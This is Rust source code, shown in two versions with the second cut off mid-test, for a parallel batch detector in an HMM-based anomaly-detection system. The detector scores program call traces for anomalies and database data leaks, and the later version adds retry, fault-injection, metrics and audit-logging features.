use rayon::prelude::*;

/// How a [`BatchDetector`] scores windows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ScoringMode {
    /// A full scaled-forward pass per window (exactly
    /// [`DetectionEngine::scan`]): output is byte-identical to the serial
    /// engine loop.
    #[default]
    ExactWindows,
    /// Incremental [`SlidingForward`] scoring: one O(N²) update per event.
    /// Deterministic, but windows are scored conditionally on session
    /// history (see [`adprom_hmm::sliding`]).
    Incremental,
}

/// Scoring outcome for one trace of a batch.
#[derive(Debug, Clone, PartialEq)]
pub struct TraceReport {
    /// Position of the trace in the input batch.
    pub index: usize,
    /// One alert per window, in window order.
    pub alerts: Vec<Alert>,
    /// Highest-severity flag over the trace.
    pub verdict: Flag,
}

impl TraceReport {
    /// Non-normal alerts only.
    pub fn alarms(&self) -> impl Iterator<Item = &Alert> {
        self.alerts.iter().filter(|a| a.is_alarm())
    }
}

/// Scores batches of independent session traces in parallel.
#[derive(Debug, Clone)]
pub struct BatchDetector<'p> {
    profile: &'p Profile,
    threshold: f64,
    mode: ScoringMode,
}

impl<'p> BatchDetector<'p> {
    /// Creates a batch detector in [`ScoringMode::ExactWindows`].
    pub fn new(profile: &'p Profile) -> BatchDetector<'p> {
        BatchDetector {
            profile,
            threshold: profile.threshold,
            mode: ScoringMode::ExactWindows,
        }
    }

    /// Selects the scoring mode.
    pub fn with_mode(mut self, mode: ScoringMode) -> BatchDetector<'p> {
        self.mode = mode;
        self
    }

    /// Overrides the detection threshold (defaults to the profile's).
    pub fn set_threshold(&mut self, threshold: f64) {
        self.threshold = threshold;
    }

    /// The active scoring mode.
    pub fn mode(&self) -> ScoringMode {
        self.mode
    }

    /// Scores every trace of the batch across the rayon thread pool.
    /// Reports come back in input order with `report.index == i`; see the
    /// module docs for the determinism guarantee.
    pub fn detect_batch(&self, traces: &[Vec<CallEvent>]) -> Vec<TraceReport> {
        let alerts_per_trace: Vec<Vec<Alert>> = traces
            .par_iter()
            .map(|trace| self.scan_trace(trace))
            .collect();
        alerts_per_trace
            .into_iter()
            .enumerate()
            .map(|(index, alerts)| {
                let verdict = alerts.iter().map(|a| a.flag).max().unwrap_or(Flag::Normal);
                TraceReport {
                    index,
                    alerts,
                    verdict,
                }
            })
            .collect()
    }

    /// Highest-severity flag per trace, in input order.
    pub fn verdicts(&self, traces: &[Vec<CallEvent>]) -> Vec<Flag> {
        self.detect_batch(traces)
            .into_iter()
            .map(|r| r.verdict)
            .collect()
    }

    /// Scores a single trace with the configured mode (the unit of work
    /// each pool thread runs).
    pub fn scan_trace(&self, events: &[CallEvent]) -> Vec<Alert> {
        let mut engine = DetectionEngine::new(self.profile);
        engine.set_threshold(self.threshold);
        match self.mode {
            ScoringMode::ExactWindows => engine.scan(events),
            ScoringMode::Incremental => self.scan_incremental(&engine, events),
        }
    }

    /// Incremental scan: one sliding scorer per trace, one alert per
    /// window, same window set as [`DetectionEngine::scan`].
    ///
    /// Per-event facts — symbol encoding, the out-of-context check, the
    /// `_Q` label test — are computed once per trace instead of once per
    /// window, so the per-window cost is the O(N²) alpha update plus alert
    /// construction, not n map lookups.
    fn scan_incremental(&self, engine: &DetectionEngine<'_>, events: &[CallEvent]) -> Vec<Alert> {
        let n = self.profile.window;
        if events.is_empty() {
            return Vec::new();
        }
        let names: Vec<String> = events.iter().map(|e| e.name.clone()).collect();
        let encoded = self.profile.alphabet.encode_seq(&names);
        let out_of_context: Vec<bool> = events
            .iter()
            .map(|e| self.profile.is_out_of_context(&e.name, &e.caller))
            .collect();
        let labeled: Vec<bool> = names.iter().map(|name| name.contains("_Q")).collect();
        // Prefix counts make "any flagged event in the window?" O(1).
        let prefix = |flags: &[bool]| -> Vec<u32> {
            let mut acc = Vec::with_capacity(flags.len() + 1);
            acc.push(0u32);
            for &f in flags {
                acc.push(acc.last().unwrap() + u32::from(f));
            }
            acc
        };
        let ooc_prefix = prefix(&out_of_context);
        let labeled_prefix = prefix(&labeled);
        let threshold = engine.threshold();

        let mut sliding = SlidingForward::new(&self.profile.hmm, n);
        let mut alerts = Vec::with_capacity(events.len().saturating_sub(n) + 1);
        let mut emit = |start: usize, end: usize, ll: f64| {
            // Same flag precedence as DetectionEngine::classify, driven by
            // the precomputed per-event facts.
            let window = names[start..end].to_vec();
            if ooc_prefix[end] > ooc_prefix[start] {
                let t = (start..end).find(|&t| out_of_context[t]).expect("counted");
                alerts.push(Alert {
                    flag: Flag::OutOfContext,
                    log_likelihood: ll,
                    threshold,
                    window,
                    detail: format!(
                        "call `{}` issued by `{}`, which never issued it in training",
                        events[t].name, events[t].caller
                    ),
                });
            } else if ll < threshold {
                if labeled_prefix[end] > labeled_prefix[start] {
                    let t = (start..end).find(|&t| labeled[t]).expect("counted");
                    let leak = &names[t];
                    alerts.push(Alert {
                        flag: Flag::DataLeak,
                        log_likelihood: ll,
                        threshold,
                        detail: format!(
                            "anomalous sequence contains labeled output `{leak}` \
                             (block {}): targeted data from the DB reached an output statement",
                            leak.rsplit("_Q").next().unwrap_or("?")
                        ),
                        window,
                    });
                } else {
                    alerts.push(Alert {
                        flag: Flag::Anomalous,
                        log_likelihood: ll,
                        threshold,
                        window,
                        detail: "sequence probability below threshold".to_string(),
                    });
                }
            } else {
                alerts.push(Alert {
                    flag: Flag::Normal,
                    log_likelihood: ll,
                    threshold,
                    window,
                    detail: String::new(),
                });
            }
        };

        if events.len() <= n {
            let mut score = 0.0;
            for &symbol in &encoded {
                score = sliding.push(symbol);
            }
            emit(0, events.len(), score);
            return alerts;
        }
        for (t, &symbol) in encoded.iter().enumerate() {
            let score = sliding.push(symbol);
            if t + 1 >= n {
                emit(t + 1 - n, t + 1, score);
            }
        }
        alerts
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alphabet::Alphabet;
    use adprom_hmm::Hmm;
    use adprom_lang::{CallSiteId, LibCall};
    use std::collections::{BTreeMap, BTreeSet};

    fn event(name: &str, caller: &str) -> CallEvent {
        CallEvent {
            name: name.to_string(),
            call: LibCall::Printf,
            caller: caller.to_string(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    /// Same cyclic a→b→c profile the detect tests use.
    fn cyclic_profile() -> Profile {
        let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
        let m = alphabet.len();
        let mut a = vec![vec![0.001; m]; m];
        a[0][1] = 1.0;
        a[1][2] = 1.0;
        a[2][0] = 1.0;
        a[3][3] = 1.0;
        let mut b = vec![vec![0.001; m]; m];
        for (i, row) in b.iter_mut().enumerate() {
            row[i] = 1.0;
        }
        let pi = vec![1.0; m];
        let mut hmm = Hmm::from_rows(a, b, pi);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in ["a", "b", "c_Q7"] {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: "cyclic".into(),
            alphabet,
            hmm,
            window: 3,
            threshold: -5.0,
            call_callers,
            labeled_outputs: vec!["c_Q7".to_string()],
        }
    }

    fn trace_of(names: &[&str]) -> Vec<CallEvent> {
        names.iter().map(|n| event(n, "main")).collect()
    }

    fn mixed_batch() -> Vec<Vec<CallEvent>> {
        vec![
            trace_of(&["a", "b", "c_Q7", "a", "b", "c_Q7"]), // normal
            trace_of(&["b", "a", "a", "b", "a"]),            // anomalous
            trace_of(&["a", "evil_exfil", "c_Q7"]),          // data leak
            Vec::new(),                                      // empty
            trace_of(&["a", "b"]),                           // shorter than window
            vec![
                event("a", "main"),
                event("b", "attacker_function"), // out of context
                event("c_Q7", "main"),
            ],
        ]
    }

    #[test]
    fn exact_mode_is_identical_to_serial_engine_loop() {
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let detector = BatchDetector::new(&profile);
        let reports = detector.detect_batch(&batch);

        let engine = DetectionEngine::new(&profile);
        for (i, trace) in batch.iter().enumerate() {
            assert_eq!(reports[i].index, i);
            assert_eq!(reports[i].alerts, engine.scan(trace), "trace {i}");
            assert_eq!(reports[i].verdict, engine.verdict(trace), "trace {i}");
        }
    }

    #[test]
    fn verdicts_cover_all_flags_in_input_order() {
        let profile = cyclic_profile();
        let verdicts = BatchDetector::new(&profile).verdicts(&mixed_batch());
        assert_eq!(verdicts[0], Flag::Normal);
        assert_eq!(verdicts[1], Flag::Anomalous);
        assert_eq!(verdicts[2], Flag::DataLeak);
        assert_eq!(verdicts[3], Flag::Normal); // empty trace: nothing to score
        assert_eq!(verdicts[5], Flag::OutOfContext);
    }

    #[test]
    fn incremental_mode_agrees_on_flags_for_separated_traces() {
        // Incremental scores are conditional, so compare flags (the
        // detection outcome), not raw numbers, on traces whose normal and
        // attack likelihoods are far from the threshold.
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let exact = BatchDetector::new(&profile).verdicts(&batch);
        let incremental = BatchDetector::new(&profile)
            .with_mode(ScoringMode::Incremental)
            .verdicts(&batch);
        assert_eq!(exact, incremental);
    }

    #[test]
    fn incremental_window_set_matches_exact_mode() {
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let exact = BatchDetector::new(&profile).detect_batch(&batch);
        let incremental = BatchDetector::new(&profile)
            .with_mode(ScoringMode::Incremental)
            .detect_batch(&batch);
        for (e, inc) in exact.iter().zip(&incremental) {
            assert_eq!(e.alerts.len(), inc.alerts.len(), "trace {}", e.index);
            for (ae, ai) in e.alerts.iter().zip(&inc.alerts) {
                assert_eq!(ae.window, ai.window);
            }
        }
    }

    #[test]
    fn threshold_override_propagates_to_workers() {
        let profile = cyclic_profile();
        let mut detector = BatchDetector::new(&profile);
        detector.set_threshold(0.0); // everything scores below 0
        let verdicts = detector.verdicts(&[trace_of(&["a", "b", "c_Q7"])]);
        assert_ne!(verdicts[0], Flag::Normal);
    }

    #[test]
    fn large_batch_keeps_input_order() {
        let profile = cyclic_profile();
        let detector = BatchDetector::new(&profile);
        // Alternate normal / anomalous traces; order must survive the pool.
        let batch: Vec<Vec<CallEvent>> = (0..64)
            .map(|i| {
                if i % 2 == 0 {
                    trace_of(&["a", "b", "c_Q7"])
                } else {
                    trace_of(&["b", "a", "a"])
                }
            })
            .collect();
        let reports = detector.detect_batch(&batch);
        assert_eq!(reports.len(), 64);
        for (i, r) in reports.iter().enumerate() {
            assert_eq!(r.index, i);
            let expected = if i % 2 == 0 {
                Flag::Normal
            } else {
                Flag::Anomalous
            };
            assert_eq!(r.verdict, expected, "trace {i}");
        }
    }
}
