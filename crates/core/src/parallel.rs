//! Parallel batched detection: fan independent session traces out across a
//! thread pool and return per-trace alerts in deterministic input order.
//!
//! The paper evaluates AD-PROM monitoring a live application serving many
//! connections; each session's call stream is scored independently (windows
//! never span sessions), so batches parallelize embarrassingly. The
//! determinism guarantee: [`BatchDetector::detect_batch`] returns reports
//! in the exact order the traces were passed in, and in
//! [`ScoringMode::ExactWindows`] each report's alerts are *identical* —
//! field for field, including floating-point scores — to what a serial
//! `DetectionEngine::scan` loop over the same traces produces, regardless
//! of thread count or scheduling. Parallelism only changes wall-clock
//! time, never output. Audit records are written *after* the parallel
//! pass, in input order, so their sequence numbers are deterministic too —
//! even when a worker panicked mid-trace and the trace was retried.
//!
//! [`ScoringMode::Incremental`] swaps the per-window forward recompute for
//! the sliding scorer (O(N²) per event instead of O(n·N²)); scores then
//! use the conditional window semantics documented in
//! [`adprom_hmm::sliding`]. Still deterministic — the incremental scorer
//! runs a fixed recurrence per trace — but not bit-identical to
//! `ExactWindows`, because the window likelihood is conditioned on the
//! session's history rather than restarted from π.

pub use crate::scorer::ScoringMode;

use crate::detect::{Alert, Flag, KernelConfig};
use crate::profile::Profile;
use crate::resilience::{sites, FailPoint, FaultInjector, FaultKind, HealthMonitor, RetryPolicy};
use crate::scorer::{KernelStatus, WindowScorer};
use crate::telemetry::{audit_record_from_alert, BatchMetrics, DetectMetrics, ResilienceMetrics};
use adprom_obs::{AuditLog, Registry};
use adprom_trace::CallEvent;
use rayon::prelude::*;
use rayon::{ThreadPool, ThreadPoolBuilder};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Instant;

/// How a trace's scoring pass concluded.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub enum TraceStatus {
    /// Scored on the first attempt.
    #[default]
    Ok,
    /// Scored after this many retries of a panicked attempt (the alerts
    /// are from a clean pass and fully trustworthy).
    Recovered(u32),
    /// Every attempt panicked; no alerts were produced. Carries the panic
    /// message of the final attempt. The pipeline's health is `Failed`.
    Failed(String),
}

/// Scoring outcome for one trace of a batch.
#[derive(Debug, Clone, PartialEq)]
pub struct TraceReport {
    /// Position of the trace in the input batch.
    pub index: usize,
    /// Session (connection) id the trace came from —
    /// [`BatchDetector::detect_sessions`] carries it end-to-end into the
    /// report and every audit record; `None` for anonymous
    /// [`BatchDetector::detect_batch`] traces.
    pub session: Option<String>,
    /// One alert per window, in window order.
    pub alerts: Vec<Alert>,
    /// Highest-severity flag over the trace.
    pub verdict: Flag,
    /// Whether scoring succeeded, recovered, or failed.
    pub status: TraceStatus,
}

impl TraceReport {
    /// Non-normal alerts only.
    pub fn alarms(&self) -> impl Iterator<Item = &Alert> {
        self.alerts.iter().filter(|a| a.is_alarm())
    }
}

/// Scores batches of independent session traces in parallel. A thin
/// parallel shell over the shared [`WindowScorer`] core: workers clone
/// nothing but `Arc` handles — the profile and the CSR decomposition are
/// built once and shared.
#[derive(Debug, Clone)]
pub struct BatchDetector {
    /// The shared scoring core (profile, kernel, threshold, detect
    /// metrics). Its audit stays unset: batch paths audit post-hoc, in
    /// input order, for deterministic sequence numbers.
    scorer: WindowScorer,
    mode: ScoringMode,
    /// Batch-level handles: per-trace latency, task counts, mode and
    /// sliding-scorer accounting.
    metrics: BatchMetrics,
    /// Audit log written after each batch, in input order.
    audit: Option<Arc<AuditLog>>,
    /// Explicitly sized thread pool, if any — otherwise rayon's default
    /// (machine cores, overridable via `RAYON_NUM_THREADS`).
    pool: Option<ThreadPool>,
    /// Per-trace panic isolation / retry / watchdog policy.
    retry: RetryPolicy,
    /// Panic, retry, watchdog, and kernel-fallback counters.
    res_metrics: ResilienceMetrics,
    /// The Healthy/Degraded/Failed state machine workers report into.
    health: HealthMonitor,
    /// Fail point: panic a worker before it scores a trace (keyed by
    /// trace index). Disabled unless armed by
    /// [`BatchDetector::with_faults`] — a single branch per trace.
    fault_panic: FailPoint,
    /// Fail point: delay a worker's scoring pass.
    fault_slow: FailPoint,
    /// The downgrade is surfaced (metric + health) once, on first use.
    fallback_reported: Arc<AtomicBool>,
}

impl BatchDetector {
    /// Creates a batch detector in [`ScoringMode::ExactWindows`] with
    /// instrumentation disabled. The profile is cloned behind an `Arc`;
    /// when it is already shared, prefer [`BatchDetector::from_arc`].
    pub fn new(profile: &Profile) -> BatchDetector {
        BatchDetector::from_arc(Arc::new(profile.clone()))
    }

    /// Creates a batch detector over an already-shared profile.
    pub fn from_arc(profile: Arc<Profile>) -> BatchDetector {
        BatchDetector::from_scorer(WindowScorer::new(profile))
    }

    /// Creates a batch detector directly over a prepared scorer (the
    /// registry path — epochs share one CSR decomposition).
    pub fn from_scorer(scorer: WindowScorer) -> BatchDetector {
        BatchDetector {
            scorer,
            mode: ScoringMode::ExactWindows,
            metrics: BatchMetrics::disabled(),
            audit: None,
            pool: None,
            retry: RetryPolicy::default(),
            res_metrics: ResilienceMetrics::disabled(),
            health: HealthMonitor::new(),
            fault_panic: FailPoint::disabled(),
            fault_slow: FailPoint::disabled(),
            fallback_reported: Arc::new(AtomicBool::new(false)),
        }
    }

    /// Selects the scoring mode.
    pub fn with_mode(mut self, mode: ScoringMode) -> BatchDetector {
        self.mode = mode;
        self
    }

    /// Selects the scoring kernel. The CSR decomposition (when the config
    /// needs one) is built *here*, once, and shared by every worker
    /// through an `Arc` — parallelism does not repeat the O(N²) build.
    ///
    /// In [`ScoringMode::Incremental`] the sliding scorers pick the kernel
    /// up too: sparse propagation per event, plus per-step beam pruning
    /// for [`KernelConfig::Beam`].
    ///
    /// The build is validated: if the profile's model fails CSR
    /// validation (non-finite entries, rows drifted from stochasticity),
    /// the detector **degrades to the dense kernel** instead of scoring
    /// through a corrupt decomposition. The downgrade is surfaced on
    /// first use through `resilience.kernel_fallbacks` and the health
    /// state ([`BatchDetector::kernel_status`] carries the reason) — and
    /// because the sparse kernel was never built, degraded-mode output is
    /// bit-identical to a dense-kernel run.
    pub fn with_kernel(mut self, config: KernelConfig) -> BatchDetector {
        self.scorer = self.scorer.with_kernel_validated(config);
        if self.scorer.status().fell_back() {
            self.fallback_reported = Arc::new(AtomicBool::new(false));
        }
        self
    }

    /// Selects the scoring precision (see
    /// [`WindowScorer::with_precision`]): workers share the f32 mirror of
    /// the CSR through an `Arc`, and every flag the batch emits matches
    /// the pure-f64 detector's.
    pub fn with_precision(mut self, precision: adprom_hmm::Precision) -> BatchDetector {
        self.scorer = self.scorer.with_precision(precision);
        self
    }

    /// Requested/effective kernel and the downgrade reason, if any — the
    /// unified [`KernelStatus`] reports, metrics, and bench JSON share.
    pub fn kernel_status(&self) -> &KernelStatus {
        self.scorer.status()
    }

    /// Why the requested kernel was downgraded to dense (`None` when the
    /// requested kernel is in force). Shorthand for
    /// `kernel_status().fallback_reason`.
    pub fn kernel_fallback(&self) -> Option<&str> {
        self.scorer.status().fallback_reason.as_deref()
    }

    /// Short name of the kernel actually scoring (`dense`, `sparse`,
    /// `beam`).
    pub fn kernel_label(&self) -> &str {
        &self.scorer.status().effective
    }

    /// Replaces the per-trace retry/watchdog policy (default: 2 retries,
    /// 5 ms backoff, no watchdog).
    pub fn with_retry(mut self, retry: RetryPolicy) -> BatchDetector {
        self.retry = retry;
        self
    }

    /// Shares a health monitor: workers raise it to Degraded on absorbed
    /// faults (retries, watchdog trips, kernel downgrades) and Failed
    /// when a trace cannot be scored.
    pub fn with_health(mut self, health: HealthMonitor) -> BatchDetector {
        self.health = health;
        self
    }

    /// Arms the detector's fail points ([`sites::WORKER_PANIC`],
    /// [`sites::SLOW_SCORE`]) from an injected fault schedule. Production
    /// detectors never call this; the handles stay disabled and each
    /// probe is a single branch.
    pub fn with_faults(mut self, injector: &FaultInjector) -> BatchDetector {
        self.fault_panic = injector.point(sites::WORKER_PANIC);
        self.fault_slow = injector.point(sites::SLOW_SCORE);
        self
    }

    /// Sizes the detector's own rayon pool to exactly `threads` workers
    /// (0 restores the default pool). [`BatchDetector::threads`] reports
    /// the count actually in force — what benchmarks must record instead
    /// of assuming the machine's core count.
    pub fn with_threads(mut self, threads: usize) -> BatchDetector {
        self.pool = (threads > 0).then(|| {
            ThreadPoolBuilder::new()
                .num_threads(threads)
                .build()
                .expect("thread pool builds")
        });
        self
    }

    /// Number of worker threads batch calls will actually use: the
    /// explicit pool's size if [`BatchDetector::with_threads`] set one,
    /// else rayon's current default.
    pub fn threads(&self) -> usize {
        self.pool
            .as_ref()
            .map_or_else(rayon::current_num_threads, ThreadPool::current_num_threads)
    }

    /// Registers metric handles against `registry` — once, here; the rayon
    /// workers only touch the shared atomics.
    pub fn with_registry(mut self, registry: &Registry) -> BatchDetector {
        self.scorer = self
            .scorer
            .with_metrics(DetectMetrics::from_registry(registry));
        self.metrics = BatchMetrics::from_registry(registry);
        self.res_metrics = ResilienceMetrics::from_registry(registry);
        self
    }

    /// Routes every non-Normal detection to `audit` — written after the
    /// parallel pass, in input order, so sequence numbers are
    /// deterministic at any thread count and under retry.
    pub fn with_audit(mut self, audit: Arc<AuditLog>) -> BatchDetector {
        self.audit = Some(audit);
        self
    }

    /// Overrides the detection threshold (defaults to the profile's).
    pub fn set_threshold(&mut self, threshold: f64) {
        self.scorer.set_threshold(threshold);
    }

    /// The active scoring mode.
    pub fn mode(&self) -> ScoringMode {
        self.mode
    }

    /// The shared scoring core this detector fans out.
    pub fn scorer(&self) -> &WindowScorer {
        &self.scorer
    }

    /// Scores every trace of the batch across the rayon thread pool.
    /// Reports come back in input order with `report.index == i`; see the
    /// module docs for the determinism guarantee.
    pub fn detect_batch(&self, traces: &[Vec<CallEvent>]) -> Vec<TraceReport> {
        self.prelude();
        self.metrics.batches.inc();
        self.metrics.tasks_spawned.add(traces.len() as u64);
        let indices: Vec<usize> = (0..traces.len()).collect();
        let outcomes: Vec<(Vec<Alert>, TraceStatus)> = self.run(|| {
            indices
                .par_iter()
                .map(|&i| self.scan_trace_guarded(i, &traces[i]))
                .collect()
        });
        let reports: Vec<TraceReport> = outcomes
            .into_iter()
            .enumerate()
            .map(|(index, (alerts, status))| Self::report(index, None, alerts, status))
            .collect();
        self.audit_reports(&reports);
        reports
    }

    /// Like [`detect_batch`](BatchDetector::detect_batch), but each trace
    /// carries its session id — stamped on every audit record its windows
    /// raise and returned in [`TraceReport::session`]. `sessions` and
    /// `traces` must be parallel slices (as
    /// [`adprom_trace::BatchCollector::into_batch`] produces).
    pub fn detect_sessions(
        &self,
        sessions: &[String],
        traces: &[Vec<CallEvent>],
    ) -> Vec<TraceReport> {
        assert_eq!(
            sessions.len(),
            traces.len(),
            "one session id per trace required"
        );
        self.prelude();
        self.metrics.batches.inc();
        self.metrics.tasks_spawned.add(traces.len() as u64);
        let indices: Vec<usize> = (0..traces.len()).collect();
        let outcomes: Vec<(Vec<Alert>, TraceStatus)> = self.run(|| {
            indices
                .par_iter()
                .map(|&i| self.scan_trace_guarded(i, &traces[i]))
                .collect()
        });
        let reports: Vec<TraceReport> = outcomes
            .into_iter()
            .enumerate()
            .map(|(index, (alerts, status))| {
                Self::report(index, Some(sessions[index].clone()), alerts, status)
            })
            .collect();
        self.audit_reports(&reports);
        reports
    }

    /// Surfaces a kernel downgrade (metric + health) once, when the
    /// detector first scores — after every builder has run, so the order
    /// of `with_kernel` / `with_registry` / `with_health` cannot drop it.
    fn prelude(&self) {
        if let Some(reason) = &self.scorer.status().fallback_reason {
            if !self.fallback_reported.swap(true, Ordering::Relaxed) {
                self.res_metrics.kernel_fallbacks.inc();
                self.health.degrade(reason);
            }
        }
    }

    /// Runs `op` inside the explicit pool when one is configured, so its
    /// thread count governs every nested parallel iterator.
    fn run<R>(&self, op: impl FnOnce() -> R) -> R {
        match &self.pool {
            Some(pool) => pool.install(op),
            None => op(),
        }
    }

    fn report(
        index: usize,
        session: Option<String>,
        alerts: Vec<Alert>,
        status: TraceStatus,
    ) -> TraceReport {
        let verdict = alerts.iter().map(|a| a.flag).max().unwrap_or(Flag::Normal);
        TraceReport {
            index,
            session,
            alerts,
            verdict,
            status,
        }
    }

    /// Writes every alarm of the batch to the audit log, serially, in
    /// input order — the deterministic-sequence-number half of the
    /// determinism guarantee. Running post-hoc also means a panicked,
    /// retried attempt can never leave duplicate records behind.
    fn audit_reports(&self, reports: &[TraceReport]) {
        let Some(audit) = &self.audit else {
            return;
        };
        let kernel = &self.scorer.status().effective;
        for report in reports {
            let session = report.session.as_deref().unwrap_or("");
            for alert in report.alarms() {
                audit.record(audit_record_from_alert(alert, session, kernel));
            }
        }
    }

    /// Highest-severity flag per trace, in input order.
    pub fn verdicts(&self, traces: &[Vec<CallEvent>]) -> Vec<Flag> {
        self.detect_batch(traces)
            .into_iter()
            .map(|r| r.verdict)
            .collect()
    }

    /// Scores a single trace with the configured mode (the unit of work
    /// each pool thread runs), under the same panic isolation as batch
    /// calls. A trace that fails every retry yields no alerts.
    pub fn scan_trace(&self, events: &[CallEvent]) -> Vec<Alert> {
        self.prelude();
        let (alerts, _status) = self.scan_trace_guarded(0, events);
        if let Some(audit) = &self.audit {
            let kernel = &self.scorer.status().effective;
            for alert in alerts.iter().filter(|a| a.is_alarm()) {
                audit.record(audit_record_from_alert(alert, "", kernel));
            }
        }
        alerts
    }

    /// One trace, end to end: panic isolation (`catch_unwind` around the
    /// scoring pass), bounded retry with exponential backoff, and the
    /// watchdog elapsed check. `index` keys the fail points, so an
    /// injected fault schedule replays identically at any thread count.
    fn scan_trace_guarded(&self, index: usize, events: &[CallEvent]) -> (Vec<Alert>, TraceStatus) {
        // Mode accounting is per trace, not per attempt: retries must not
        // inflate the batch counters the observability tests pin.
        match self.mode {
            ScoringMode::ExactWindows => self.metrics.mode_exact.inc(),
            ScoringMode::Incremental => self.metrics.mode_incremental.inc(),
        }
        let mut attempts = 0u32;
        loop {
            let outcome = catch_unwind(AssertUnwindSafe(|| self.scan_attempt(index, events)));
            match outcome {
                Ok(alerts) => {
                    let status = if attempts == 0 {
                        TraceStatus::Ok
                    } else {
                        self.res_metrics.traces_recovered.inc();
                        self.health.degrade(&format!(
                            "trace {index} recovered after {attempts} retr{}",
                            if attempts == 1 { "y" } else { "ies" }
                        ));
                        TraceStatus::Recovered(attempts)
                    };
                    return (alerts, status);
                }
                Err(payload) => {
                    self.res_metrics.worker_panics.inc();
                    let message = panic_message(payload.as_ref());
                    if attempts >= self.retry.max_retries {
                        self.res_metrics.traces_failed.inc();
                        self.health.fail(&format!(
                            "trace {index} unrecoverable after {} attempt(s): {message}",
                            attempts + 1
                        ));
                        return (Vec::new(), TraceStatus::Failed(message));
                    }
                    attempts += 1;
                    self.res_metrics.trace_retries.inc();
                    let backoff = self.retry.backoff * 2u32.saturating_pow(attempts - 1);
                    if !backoff.is_zero() {
                        std::thread::sleep(backoff);
                    }
                }
            }
        }
    }

    /// One scoring attempt (what `catch_unwind` wraps). Pure scoring
    /// through the shared [`WindowScorer`] — no audit writes happen here,
    /// so a panicked attempt leaves no partial audit trail to deduplicate.
    fn scan_attempt(&self, index: usize, events: &[CallEvent]) -> Vec<Alert> {
        if matches!(self.fault_panic.fire(index as u64), Some(FaultKind::Panic)) {
            panic!(
                "fault-injected panic at {} (trace {index})",
                sites::WORKER_PANIC
            );
        }
        let timer = (self.metrics.trace_ns.is_enabled() || self.retry.watchdog.is_some())
            .then(Instant::now);
        if let Some(FaultKind::SlowScore { millis }) = self.fault_slow.fire(index as u64) {
            std::thread::sleep(std::time::Duration::from_millis(millis));
        }
        let alerts = match self.mode {
            ScoringMode::ExactWindows => self.scorer.scan(events, ""),
            ScoringMode::Incremental => {
                let (alerts, stats) = self.scorer.scan_incremental(events, "");
                // Surface the sliding scorer's accounting (acceptance
                // metric: `sliding.reanchors` — 0 for smoothed profiles).
                self.metrics.sliding_pushes.add(stats.pushes);
                self.metrics.sliding_reanchors.add(stats.reanchors);
                alerts
            }
        };
        if let Some(start) = timer {
            let elapsed = start.elapsed();
            if self.metrics.trace_ns.is_enabled() {
                self.metrics
                    .trace_ns
                    .record(u64::try_from(elapsed.as_nanos()).unwrap_or(u64::MAX));
            }
            // The watchdog is a post-hoc budget check — a worker cannot be
            // interrupted mid-score, but a stuck/slow trace is recorded
            // and degrades health so operators see it.
            if let Some(budget) = self.retry.watchdog {
                if elapsed > budget {
                    self.res_metrics.watchdog_trips.inc();
                    self.health.degrade(&format!(
                        "trace {index} exceeded watchdog budget ({elapsed:?} > {budget:?})"
                    ));
                }
            }
        }
        alerts
    }
}

/// Best-effort rendering of a caught panic payload.
pub(crate) fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alphabet::Alphabet;
    use crate::detect::DetectionEngine;
    use adprom_hmm::Hmm;
    use adprom_lang::{CallSiteId, LibCall};
    use std::collections::{BTreeMap, BTreeSet};

    fn event(name: &str, caller: &str) -> CallEvent {
        CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: caller.into(),
            site: CallSiteId(0),
            detail: None,
        }
    }

    /// Same cyclic a→b→c profile the detect tests use.
    fn cyclic_profile() -> Profile {
        let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
        let m = alphabet.len();
        let mut a = vec![vec![0.001; m]; m];
        a[0][1] = 1.0;
        a[1][2] = 1.0;
        a[2][0] = 1.0;
        a[3][3] = 1.0;
        let mut b = vec![vec![0.001; m]; m];
        for (i, row) in b.iter_mut().enumerate() {
            row[i] = 1.0;
        }
        let pi = vec![1.0; m];
        let mut hmm = Hmm::from_rows(a, b, pi);
        hmm.smooth(1e-4);
        let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for name in ["a", "b", "c_Q7"] {
            call_callers
                .entry(name.to_string())
                .or_default()
                .insert("main".to_string());
        }
        Profile {
            app_name: "cyclic".into(),
            alphabet,
            hmm,
            window: 3,
            threshold: -5.0,
            call_callers,
            labeled_outputs: vec!["c_Q7".to_string()],
        }
    }

    fn trace_of(names: &[&str]) -> Vec<CallEvent> {
        names.iter().map(|n| event(n, "main")).collect()
    }

    fn mixed_batch() -> Vec<Vec<CallEvent>> {
        vec![
            trace_of(&["a", "b", "c_Q7", "a", "b", "c_Q7"]), // normal
            trace_of(&["b", "a", "a", "b", "a"]),            // anomalous
            trace_of(&["a", "evil_exfil", "c_Q7"]),          // data leak
            Vec::new(),                                      // empty
            trace_of(&["a", "b"]),                           // shorter than window
            vec![
                event("a", "main"),
                event("b", "attacker_function"), // out of context
                event("c_Q7", "main"),
            ],
        ]
    }

    #[test]
    fn exact_mode_is_identical_to_serial_engine_loop() {
        let profile = cyclic_profile();
        let batch = mixed_batch();
        let detector = BatchDetector::new(&profile);
        let reports = detector.detect_batch(&batch);

        let engine = DetectionEngine::new(&profile);
        for (i, trace) in batch.iter().enumerate() {
            assert_eq!(reports[i].index, i);
            assert_eq!(reports[i].alerts, engine.scan(trace), "trace {i}");
            assert_eq!(reports[i].verdict, engine.verdict(trace), "trace {i}");
        }
    }

    #[test]
    fn verdicts_cover_all_flags_in_input_order() {
